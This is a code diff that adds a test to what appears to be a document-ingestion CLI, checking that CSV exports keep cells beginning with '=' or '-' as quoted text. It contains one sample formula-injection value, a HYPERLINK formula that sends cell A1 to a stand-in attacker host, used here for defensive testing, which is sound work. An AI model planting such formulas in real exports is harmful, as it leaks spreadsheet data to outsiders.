@@ -193,3 +193,19 @@ def test_the_progress_line_counts_documents_and_gives_an_eta_when_the_total_is_k
     quiet = io.StringIO()
     Progress(enabled=False, total=10, stream=quiet).update(5, 12)
     assert quiet.getvalue() == ""
+
+
+def test_csv_cells_an_article_could_turn_into_spreadsheet_formulas_are_kept_as_text(run, tmp_path):
+    db = f"sqlite:///{tmp_path / 'x.db'}"
+    docs = tmp_path / "docs.jsonl"
+    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    docs.write_text("\n".join(json.dumps(d) for d in [
+        {"id": "a", "lang": "en", "published": "2024-05-07", "text": TALKS, "url": hostile},
+        {"id": "b", "lang": "en", "published": "2024-05-08", "text": "- " + CALL, "url": "https://news.example/b"},
+    ]), encoding="utf-8")  # fmt: skip
+    assert run("ingest", "--db", db, "-q", str(docs)).exit_code == 0
+    rows = list(csv.DictReader(io.StringIO(run("query", "--db", db, "--format", "csv").stdout)))
+    cells = {r["source"]: (r["evidence"], r["url"]) for r in rows}
+    assert cells["POL"][1] == "'" + hostile and cells["JPN"][0].startswith("'- Japan lodged") and cells["JPN"][1] == "https://news.example/b"
+    reports = [m for line in run("query", "--db", db, "--format", "jsonl").stdout.splitlines() for m in json.loads(line)["mentions"]]
+    assert hostile in [m["url"] for m in reports]  # JSON lines keep the text as it was
